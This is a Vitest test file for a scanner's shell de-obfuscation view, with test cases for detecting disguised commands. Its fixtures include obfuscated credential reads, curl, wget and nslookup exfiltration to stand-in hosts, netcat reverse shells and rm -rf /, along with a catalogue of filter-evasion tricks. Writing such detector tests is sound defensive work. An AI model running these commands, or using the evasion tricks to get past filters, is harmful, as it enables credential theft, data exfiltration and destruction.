import { describe, expect, it } from "vitest";
import { scanText, type Category } from "./index";
import { cleanView } from "./normalize";
import { hasShellEvasion, MAX_MARKED_CHARS, shellView } from "./shell-view";

// The shell de-obfuscation view (shell-view.ts): each evasion trick alone and combined,
// on commands written for these tests, with spans pointing at the original text; and
// ordinary scripts that quote, glob and printf without producing a finding.
function view(text: string): string | null {
  return shellView(cleanView(text))?.text ?? null;
}
function findings(text: string, category?: Category): { rule: string; text: string }[] {
  return scanText(text)
    .findings.filter((f) => f.score >= 0.5 && (!category || f.category === category))
    .map((f) => ({ rule: f.rule, text: text.slice(f.span.start, f.span.end) }));
}

describe("shell view: each trick undone", () => {
  it.each([
    ["quotes inside words", `c'a't /e"t"c/pa's'swd`, "cat /etc/passwd"],
    ["backslashes inside words", "c\\at /e\\tc/pa\\ss\\wd", "cat /etc/passwd"],
    ["line continuations", "cat /et\\\nc/pa\\\nsswd", "cat /etc/passwd"],
    ["empty quotes", `w''ho""ami`, "whoami"],
    ["$@ and $*", "who$@ami; i$*d", "whoami; id"],
    ["empty substitutions", "w$()hoami; wh``oami", "whoami; whoami"],
    ["unset variables inside a word", "c${u}at /e${x}tc/passwd", "cat /etc/passwd"],
    ["${IFS}", "cat${IFS}/etc/passwd", "cat /etc/passwd"],
    ["$IFS$9", "cat$IFS$9/etc/shadow", "cat /etc/shadow"],
    ["brace list", "{cat,/etc/passwd}", "cat /etc/passwd"],
    ["ANSI-C hex", "$'\\x63\\x61\\x74' /etc/passwd", "cat /etc/passwd"],
    ["ANSI-C octal", "$'\\143\\141\\164' /etc/passwd", "cat /etc/passwd"],
    ["globs over well-known paths", "/???/c?t /???/p??s??", "/bin/cat /etc/passwd"],
    ["bracket classes over well-known paths", "/b[i]n/c[a]t /e[t]c/sha*ow", "/bin/cat /etc/shadow"],
    ["adjacent quoted fragments", `"r""m" -"r""f" /h"om"e/*`, "rm -rf /home/*"],
    ["printf substitution", "$(printf '\\x63\\x61\\x74') /etc/passwd", "cat /etc/passwd"],
    ["printf %s with arguments", "$(printf %s ca t) /etc/passwd", "cat /etc/passwd"],
    ["echo substitution", "who`echo am`i", "whoami"],
    ["rev here-string", "$(rev<<<'tac') /etc/passwd", "cat /etc/passwd"],
    ["echo | rev", "$(echo 'tac' | rev) /etc/passwd", "cat /etc/passwd"],
    ["echo | base64 -d", "$(echo Y2F0 | base64 -d) /etc/passwd", "cat /etc/passwd"],
    ["xxd -r -p here-string", "$(xxd -r -p <<< 636174) /etc/passwd", "cat /etc/passwd"],
    ["echo | xxd -r -p", "$(echo 636174 | xxd -r -p) /etc/passwd", "cat /etc/passwd"],
    ["tr rot13", "$(tr a-z n-za-m <<< png) /etc/passwd", "cat /etc/passwd"],
    ["slash from ${HOME:0:1}", "cat ${HOME:0:1}etc${HOME:0:1}passwd", "cat /etc/passwd"],
    ["variables spliced together", "a=c;b=at;$a$b /etc/passwd", "a=c;b=at;cat /etc/passwd"],
  ])("%s", (_name, text, expected) => {
    expect(view(text)).toBe(expected);
  });

  it("holds only the lines with a marker", () => {
    expect(view("echo 'ready'\nc'a't /e'tc'/passwd\nls -la")).toBe("cat /etc/passwd\n");
  });

  it("keeps a continued line together", () => {
    expect(view("ls\ncat /et\\\nc/passwd\necho done")).toBe("cat /etc/passwd\n");
  });

  it("returns null when there is nothing to undo", () => {
    expect(hasShellEvasion("cat /etc/hostname && ls -la")).toBe(false);
    expect(shellView(cleanView("cat /etc/hostname && ls -la"))).toBeNull();
  });

  it("finds a marker exactly where the plainly written markers are (the fast form's lookbehinds are equivalent)", () => {
    // Each marker as read: what comes before the rare character is matched, not looked behind.
    const plain = /[\w/]['"][\w/.-]{0,40}['"]|[\w/](?:''|"")|[\w/]\\[acdeghijklmopqsvwyz/]|\\\n|\$[@*]|\$\(\)|[\w/]``(?!`)|(?<!`)``[\w/]|\$\{?IFS\b|\$'\\|\/[?*]{2,}|\?{2,}|[?*]\/|(?:^|[\s;|&(`])\{[\w/.$-]{1,40},[\w/.$-]|\$\(\s{0,2}(?:printf|echo|rev)\b|`\s{0,2}(?:printf|echo|rev)\b|\brev\s{0,2}<<<|\bxxd\s{1,3}-r\s{1,3}-p\b|\btr\s{1,3}['"]?(?:a-z|A-Za-z)['"]?\s{1,3}['"]?(?:n-za-m|N-ZA-Mn-za-m)|\$\{(?:PATH|HOME|PWD|OLDPWD|SHELL):0:1\}|\|\s{0,2}rev\b|\$[A-Za-z_]\w{0,30}\$|[A-Za-z]\$\{?[A-Za-z_]/;
    const atoms = ["a", "b", "x", "xxd", " ", "-r", "-p", "\n", "'", '"', "\\", "$", "`", "``", "```", "?", "*", "/", "{", ",", "}", "(", ")", "@", "IFS", "rev", "<<<", "tr", "a-z", "A-Za-z", "n-za-m", "N-ZA-Mn-za-m", "printf", "echo", "PATH", ":0:1", "|", ";", "&", "_", ".", "1"];
    let seed = 7;
    const next = (n: number) => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) >>> 8) % n;
    let marked = 0;
    for (let i = 0; i < 200_000; i++) {
      let text = "";
      for (let k = 1 + next(8); k > 0; k--) text += atoms[next(atoms.length)];
      const expected = plain.test(text);
      if (hasShellEvasion(text) !== expected) expect({ text, marked: hasShellEvasion(text) }).toEqual({ text, marked: expected });
      if (expected) marked++;
    }
    // Both answers occur often enough for the comparison to mean something.
    expect(marked).toBeGreaterThan(10_000);
    expect(marked).toBeLessThan(190_000);
  });
});

describe("shell view: disguised commands are detected, spans on the original", () => {
  it.each([
    ["quoted credential read", `c'a't /e"t"c/pa\\ss\\wd`, "code_execution", "code_execution.credential_read.system_files"],
    ["glob credential read", "/???/c?t /???/s??d?w", "code_execution", "code_execution.credential_read.system_files"],
    ["printf-built cat", "$(printf '\\x63\\x61\\x74') /etc/passwd", "code_execution", "code_execution.credential_read.system_files"],
    ["variable-spliced cat", "a=c;b=at;$a$b /etc/passwd", "code_execution", "code_execution.credential_read.system_files"],
    ["quoted curl with command output", `cu"r"l http://203.0.113.9/$(who"am"i)`, "data_exfiltration", "data_exfiltration.http.env_pipe"],
    ["quoted nslookup", "n's'lookup $(id|base64).attacker.example", "data_exfiltration", "data_exfiltration.dns.command_in_hostname"],
    ["escaped wget upload", "w\\g\\et --post-file=/e\\tc/pa\\sswd http://203.0.113.9/", "data_exfiltration", "data_exfiltration.http.send_sensitive"],
    ["combined: IFS, quotes, braces, ANSI-C", "{$'\\x63at',/e't'c/pa''sswd}|c\\url${IFS}-d${IFS}@-${IFS}http://203.0.113.9/x", "code_execution", "code_execution.credential_read.system_files"],
    ["bracket-class netcat shell", ";/b[i]n/n[c] -e /b[i]n/sh 10.0.0.5 4444", "code_execution", "code_execution.reverse_shell.netcat"],
    ["rm split into quoted fragments", `;"r""m" -"r""f" /`, "code_execution", "code_execution.destructive.rm_root"],
    ["combined: glob, rev, IFS into netcat", "$(rev<<<'tac')$IFS$9/???/p??s??|/???/?c${IFS}203.0.113.9${IFS}4444", "data_exfiltration", "data_exfiltration.netcat.file"],
  ])("%s", (_name, text, category, rule) => {
    const hits = findings(text, category as Category);
    const hit = hits.find((h) => h.rule === rule);
    expect(hit).toBeDefined();
    // The span is a slice of the ORIGINAL (obfuscated) text.
    expect(text.includes(hit!.text)).toBe(true);
    expect(hit!.text.length).toBeGreaterThan(0);
  });

  it("maps a replaced construct to its whole extent", () => {
    const text = "x; $'\\x63\\x61\\x74' /etc/passwd";
    const hit = findings(text, "code_execution").find((h) => h.rule === "code_execution.credential_read.system_files");
    expect(hit?.text).toBe("$'\\x63\\x61\\x74' /etc/passwd");
  });
});

describe("shell view: ordinary scripts stay quiet", () => {
  it.each([
    ["globs in ls", "ls /var/log/*.log | head -n 5"],
    ["a loop over files", `for f in src/*.ts; do echo "$f"; done`],
    ["printf of a variable", `printf '%s\\n' "$name"`],
    ["printf with colours", `printf '\\x1b[31mfailed\\x1b[0m\\n'`],
    ["a greeting", `NAME=world; echo "hello \${NAME}"`],
    ["shell-quoted apostrophe", `git commit -m 'fix: don'"'"'t crash on empty input'`],
    ["find with a pattern", `find . -name '*.py' -exec grep -l "import os" {} +`],
    ["brace expansion for directories", "mkdir -p src/{components,lib,app} && cp config/{dev,prod}.yaml /tmp/"],
    ["rev of a word", `rev <<< "hello"`],
    ["a dated archive", `tar czf "backup-$(date +%F).tgz" ~/notes`],
    ["ANSI-C newline", "echo $'line1\\nline2'"],
    ["a question-mark glob", "cat ./data/part-000??.csv | wc -l"],
    ["sed with escapes", "sed -i 's/\\t/  /g' Makefile"],
    ["a hex dump", "xxd -p firmware.bin | head -n 4"],
    ["upper-casing with tr", "echo hello | tr a-z A-Z"],
    ["positional arguments", `greet() { echo "Hello, $1"; }; greet "$@"`],
    ["Windows path in prose", "The log is at C:\\Users\\alice\\AppData\\Local\\app\\log.txt."],
    ["array indexing", "x = rows[i].name; y = grid[0][1]; z = a[k]b"],
    ["two quoted arguments", `echo "a" "b" > /tmp/out.txt`],
    ["a bracket glob over files", "ls /var/log/syslog.[0-9].gz"],
  ])("%s", (_name, text) => {
    expect(findings(text)).toEqual([]);
  });
});

describe("shell view: bounded work", () => {
  it("rewrites at most MAX_MARKED_CHARS of marked text, and still finds a command inside that budget", () => {
    const marked = "c'a't${IFS}/e\"t\"c/pa\\ss\\wd x$@y ";
    const text = marked.repeat(Math.ceil((1024 * 1024) / marked.length));
    const view = shellView(cleanView(text));
    expect(view).not.toBeNull();
    // Each marked character yields at most one view character, plus the constructs' expansions.
    expect(view!.text.length).toBeLessThanOrEqual(MAX_MARKED_CHARS + 64);
    expect(view!.text.startsWith("cat /etc/passwd")).toBe(true);
    const lines = `${"harmless line\n".repeat(10)}c'a't /e"t"c/pa\\ss\\wd`;
    expect(scanText(lines).findings.map((f) => [f.rule, lines.slice(f.span.start, f.span.end)])).toEqual([["code_execution.credential_read.system_files", `c'a't /e"t"c/pa\\ss\\wd`]]);
  });
});
